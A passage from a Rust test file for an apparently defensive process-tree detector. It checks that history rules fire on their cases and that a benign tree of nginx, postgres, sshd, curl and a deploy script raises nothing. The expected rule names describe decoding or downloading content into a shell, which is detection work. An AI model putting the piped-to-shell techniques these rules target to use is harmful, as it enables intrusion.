                ],
            ],
            vec![
                ("base64-decode-to-shell", 130),
                ("stdin-shell-fed-download-or-decode", 131),
            ],
        ),
    ]
}

#[test]
fn every_history_rule_fires_on_its_case_through_the_detector() {
    for (batches, want) in history_cases() {
        let mut want: Vec<(String, u32)> = want
            .into_iter()
            .map(|(id, pid)| (id.to_owned(), pid))
            .collect();
        want.sort();
        assert_eq!(fired_through_detector(&batches), want, "{batches:#?}");
    }
}

#[test]
#[allow(clippy::too_many_lines)] // one process tree
fn an_ordinary_process_tree_raises_nothing_through_the_detector() {
    use ProcessEventType::{Exec, Exit, Fork, Snapshot};
    let nginx = "/usr/sbin/nginx";
    let bash = "/usr/bin/bash";
    let batches = vec![
        vec![
            event(
                Snapshot,
                1,
                0,
                "systemd",
                "/usr/lib/systemd/systemd",
                &["/sbin/init"],
            ),
            event(
                Snapshot,
                200,
                1,
                "nginx",
                nginx,
                &["nginx: master process /usr/sbin/nginx"],
            ),
            event(
                Snapshot,
                210,
                1,
                "postgres",
                "/usr/lib/postgresql/15/bin/postgres",
                &[
                    "/usr/lib/postgresql/15/bin/postgres",
                    "-D",
                    "/var/lib/postgresql",
                ],
            ),
            event(
                Snapshot,
                220,
                1,
                "sshd",
                "/usr/sbin/sshd",
                &["sshd: user@pts/0"],
            ),
            event(Snapshot, 221, 220, "bash", bash, &["-bash"]),
        ],
        // nginx forks a worker; postgres a backend that retitles itself.
        vec![
            event(
                Fork,
                201,
                200,
                "nginx",
                nginx,
                &["nginx: master process /usr/sbin/nginx"],
            ),
            event(Exec, 201, 200, "nginx", nginx, &["nginx: worker process"]),
            event(
                Fork,
                211,
                210,
                "postgres",
                "/usr/lib/postgresql/15/bin/postgres",
                &["postgres: checkpointer"],
            ),
        ],
        // At the prompt: `ls | sort`, a subshell, and a minute later
        // `curl -o f`, then a script.
        [
            event(Fork, 222, 221, "bash", bash, &["-bash"]),
            event(Exec, 222, 221, "ls", "/usr/bin/ls", &["ls", "-la"]),
            event(Fork, 223, 221, "bash", bash, &["-bash"]),
            event(Exec, 223, 221, "sort", "/usr/bin/sort", &["sort"]),
            event(Exit, 222, 221, "ls", "/usr/bin/ls", &["ls", "-la"]),
            event(Exit, 223, 221, "sort", "/usr/bin/sort", &["sort"]),
            event(Fork, 224, 221, "bash", bash, &["-bash"]),
            event(Exec, 224, 221, "bash", bash, &["bash"]),
            event(Exit, 224, 221, "bash", bash, &["bash"]),
        ]
        .map(|mut e| {
            e.timestamp -= Duration::from_secs(60);
            e
        })
        .to_vec(),
        vec![
            event(Fork, 225, 221, "bash", bash, &["-bash"]),
            event(
                Exec,
                225,
                221,
                "curl",
                "/usr/bin/curl",
                &["curl", "-fsSLo", "f.tgz", "https://example.com/f.tgz"],
            ),
            event(Fork, 226, 221, "bash", bash, &["-bash"]),
            event(
                Exec,
                226,
                221,
                "deploy.sh",
                bash,
                &["/bin/bash", "./deploy.sh"],
            ),
            event(
                Fork,
                227,
                226,
                "deploy.sh",
                bash,
                &["/bin/bash", "./deploy.sh"],
            ),
            event(
                Exec,
                227,
                226,
                "sh",
                "/usr/bin/dash",
                &["sh", "-c", "tar xf f.tgz"],
            ),
            event(Fork, 228, 221, "bash", bash, &["-bash"]),
            event(Exec, 228, 221, "sleep", "/usr/bin/sleep", &["sleep", "1"]),
        ],
    ];
    assert_eq!(
        fired_through_detector(&batches),
        Vec::<(String, u32)>::new()
    );
}
